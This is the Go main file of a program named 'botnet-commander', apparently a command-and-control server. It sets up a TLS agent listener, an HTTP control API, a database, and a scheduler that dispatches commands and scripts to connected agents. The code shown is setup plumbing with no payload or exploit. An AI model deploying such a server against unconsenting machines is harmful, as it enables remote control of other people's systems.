// Command botnet-commander runs the Commander: the TLS session listener
// that accepts Agent connections, the HTTP control plane, the dispatch
// scheduler, and the reply correlator, wired together around a shared set
// of components.
package main

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"
	"time"

	"github.com/spf13/cobra"
	"go.uber.org/zap"
	gormlogger "gorm.io/gorm/logger"

	"github.com/rpcyber/botnet-commander/internal/api"
	"github.com/rpcyber/botnet-commander/internal/commander"
	"github.com/rpcyber/botnet-commander/internal/correlator"
	"github.com/rpcyber/botnet-commander/internal/dispatch"
	"github.com/rpcyber/botnet-commander/internal/pki"
	"github.com/rpcyber/botnet-commander/internal/protocol"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/session"
	"github.com/rpcyber/botnet-commander/internal/store"
)

// Exit codes per the control-plane's process contract: 5 signals a
// configuration failure, 9 a PKI bootstrap failure, 0 a clean shutdown.
const (
	exitOK           = 0
	exitConfigError  = 5
	exitPKIError     = 9
	exitRuntimeError = 1
)

var (
	version = "dev"
	commit  = "none"
)

type config struct {
	agentAddr   string
	httpAddr    string
	dbDriver    string
	dbDSN       string
	basePath    string
	logLevel    string
	cmdTimeout  int
	respWait    int
	offlineTout int
	insecureTLS bool
}

func main() {
	os.Exit(runMain())
}

func runMain() int {
	root, cfg := newRootCmd()
	root.RunE = func(cmd *cobra.Command, args []string) error {
		return run(cmd.Context(), cfg)
	}

	if err := root.Execute(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		var cfgErr *configError
		var pkiErr *pkiError
		switch {
		case errors.As(err, &cfgErr):
			return exitConfigError
		case errors.As(err, &pkiErr):
			return exitPKIError
		default:
			return exitRuntimeError
		}
	}
	return exitOK
}

type configError struct{ err error }

func (e *configError) Error() string { return e.err.Error() }
func (e *configError) Unwrap() error { return e.err }

type pkiError struct{ err error }

func (e *pkiError) Error() string { return e.err.Error() }
func (e *pkiError) Unwrap() error { return e.err }

func newRootCmd() (*cobra.Command, *config) {
	cfg := &config{}

	root := &cobra.Command{
		Use:   "botnet-commander",
		Short: "Commander — fleet control plane for connected agents",
	}

	root.AddCommand(&cobra.Command{
		Use:   "version",
		Short: "Print version information",
		Run: func(cmd *cobra.Command, args []string) {
			fmt.Printf("botnet-commander %s (commit: %s)\n", version, commit)
		},
	})

	// Flag names follow the configuration's INI keys (CORE/DB/API sections) so a
	// thin INI-to-flags shim can be layered in front of this binary without
	// touching the flags themselves.
	root.PersistentFlags().StringVar(&cfg.agentAddr, "agent-addr", envOrDefault("BOTNET_AGENT_ADDR", ":7443"), "Agent session listener address (CORE.HOST/PORT)")
	root.PersistentFlags().StringVar(&cfg.httpAddr, "http-addr", envOrDefault("BOTNET_HTTP_ADDR", ":8080"), "HTTP control plane listen address (API.HOST/PORT)")
	root.PersistentFlags().StringVar(&cfg.dbDriver, "db-driver", envOrDefault("BOTNET_DB_DRIVER", "sqlite"), "Database driver (sqlite or postgres)")
	root.PersistentFlags().StringVar(&cfg.dbDSN, "db-dsn", envOrDefault("BOTNET_DB_DSN", "./botnet-commander.db"), "Database DSN or file path for SQLite (DB section)")
	root.PersistentFlags().StringVar(&cfg.basePath, "base-path", envOrDefault("BOTNET_BASE_PATH", "./data"), "Base directory for PKI material and other persisted state (CORE.BASE_PATH)")
	root.PersistentFlags().StringVar(&cfg.logLevel, "log-level", envOrDefault("BOTNET_LOG_LEVEL", "info"), "Log level (debug, info, warn, error)")
	root.PersistentFlags().IntVar(&cfg.cmdTimeout, "cmd-timeout", envOrDefaultInt("BOTNET_CMD_TOUT", 30), "Default exeCommand/exeScript execution timeout, seconds (CORE.CMD_TOUT)")
	root.PersistentFlags().IntVar(&cfg.respWait, "resp-wait-window", envOrDefaultInt("BOTNET_RESP_WAIT_WINDOW", 2), "Reply correlator flush interval, seconds (CORE.RESP_WAIT_WINDOW)")
	root.PersistentFlags().IntVar(&cfg.offlineTout, "offline-timeout", envOrDefaultInt("BOTNET_OFFLINE_TOUT", 90), "Seconds of silence before an agent session is considered dead (CORE.OFFLINE_TOUT)")
	root.PersistentFlags().BoolVar(&cfg.insecureTLS, "insecure-no-tls", envOrDefault("BOTNET_INSECURE_NO_TLS", "false") == "true", "Run the agent listener without TLS (development only)")

	return root, cfg
}

func run(ctx context.Context, cfg *config) error {
	logger, err := buildLogger(cfg.logLevel)
	if err != nil {
		return &configError{fmt.Errorf("build logger: %w", err)}
	}
	defer logger.Sync() //nolint:errcheck

	logger.Info("starting botnet-commander",
		zap.String("version", version),
		zap.String("agent_addr", cfg.agentAddr),
		zap.String("http_addr", cfg.httpAddr),
		zap.String("db_driver", cfg.dbDriver),
	)

	ctx, cancel := signal.NotifyContext(ctx, os.Interrupt, syscall.SIGTERM, syscall.SIGHUP)
	defer cancel()

	// --- 1. Database ---
	gw, err := store.New(store.Config{
		Driver:   cfg.dbDriver,
		DSN:      cfg.dbDSN,
		Logger:   logger,
		LogLevel: gormLogLevel(cfg.logLevel),
	})
	if err != nil {
		return &configError{fmt.Errorf("open database: %w", err)}
	}
	defer gw.Close()

	// --- 2. In-memory components ---
	reg := registry.New(logger)
	sched := dispatch.New(reg, gw, cfg.cmdTimeout, logger)
	corr, err := correlator.New(gw, logger, time.Duration(cfg.respWait)*time.Second)
	if err != nil {
		return &configError{fmt.Errorf("create correlator: %w", err)}
	}
	if err := corr.Start(ctx); err != nil {
		return &configError{fmt.Errorf("start correlator: %w", err)}
	}
	defer func() {
		stopCtx, stopCancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer stopCancel()
		if err := corr.Stop(stopCtx); err != nil {
			logger.Warn("correlator shutdown error", zap.Error(err))
		}
	}()

	handler := commander.NewHandler(gw, reg, corr, logger)

	// --- 3. TLS material ---
	var tlsConfig *tls.Config
	if !cfg.insecureTLS {
		cert, err := pki.EnsureServerCert(filepath.Join(cfg.basePath, "pki"))
		if err != nil {
			return &pkiError{fmt.Errorf("ensure server cert: %w", err)}
		}
		tlsConfig = &tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS12}
	}

	// --- 4. Agent session listener ---
	listener, err := newListener(cfg.agentAddr, tlsConfig)
	if err != nil {
		return &configError{fmt.Errorf("listen on %s: %w", cfg.agentAddr, err)}
	}

	go acceptLoop(ctx, listener, handler, time.Duration(cfg.offlineTout)*time.Second, logger)

	// --- 5. HTTP control plane ---
	router := api.NewRouter(api.RouterConfig{
		Store:      gw,
		Registry:   reg,
		Scheduler:  sched,
		Correlator: corr,
		Logger:     logger,
	})
	httpSrv := &http.Server{
		Addr:         cfg.httpAddr,
		Handler:      router,
		ReadTimeout:  15 * time.Second,
		WriteTimeout: 30 * time.Second,
		IdleTimeout:  60 * time.Second,
	}

	go func() {
		logger.Info("http control plane listening", zap.String("addr", cfg.httpAddr))
		if err := httpSrv.ListenAndServe(); err != nil && !errors.Is(err, http.ErrServerClosed) {
			logger.Error("http server error", zap.Error(err))
			cancel()
		}
	}()

	<-ctx.Done()
	logger.Info("shutting down botnet-commander")

	_ = listener.Close()

	shutdownCtx, shutdownCancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer shutdownCancel()
	if err := httpSrv.Shutdown(shutdownCtx); err != nil {
		logger.Warn("http server graceful shutdown error", zap.Error(err))
	}

	logger.Info("botnet-commander stopped")
	return nil
}

// newListener opens the agent session listener, wrapping it in TLS unless
// tlsConfig is nil (insecure development mode).
func newListener(addr string, tlsConfig *tls.Config) (net.Listener, error) {
	if tlsConfig == nil {
		return net.Listen("tcp", addr)
	}
	return tls.Listen("tcp", addr, tlsConfig)
}

func acceptLoop(ctx context.Context, listener net.Listener, handler *commander.Handler, offlineTimeout time.Duration, logger *zap.Logger) {
	for {
		conn, err := listener.Accept()
		if err != nil {
			if ctx.Err() != nil {
				return
			}
			logger.Warn("accept error", zap.Error(err))
			continue
		}

		go func() {
			framer := protocol.New(conn)
			s := session.New(framer, conn.RemoteAddr().String(), handler, logger)
			s.SetIdleTimeout(offlineTimeout)
			s.Run()
			handler.Deregister(s.AgentID())
		}()
	}
}

func envOrDefault(key, def string) string {
	if v := os.Getenv(key); v != "" {
		return v
	}
	return def
}

func envOrDefaultInt(key string, def int) int {
	v := os.Getenv(key)
	if v == "" {
		return def
	}
	var n int
	if _, err := fmt.Sscanf(v, "%d", &n); err != nil {
		return def
	}
	return n
}

func gormLogLevel(level string) gormlogger.LogLevel {
	switch level {
	case "debug":
		return gormlogger.Info
	case "info":
		return gormlogger.Warn
	default:
		return gormlogger.Error
	}
}

func buildLogger(level string) (*zap.Logger, error) {
	var cfg zap.Config
	switch level {
	case "debug":
		cfg = zap.NewDevelopmentConfig()
	default:
		cfg = zap.NewProductionConfig()
	}

	switch level {
	case "debug":
		cfg.Level = zap.NewAtomicLevelAt(zap.DebugLevel)
	case "warn":
		cfg.Level = zap.NewAtomicLevelAt(zap.WarnLevel)
	case "error":
		cfg.Level = zap.NewAtomicLevelAt(zap.ErrorLevel)
	default:
		cfg.Level = zap.NewAtomicLevelAt(zap.InfoLevel)
	}

	return cfg.Build()
}
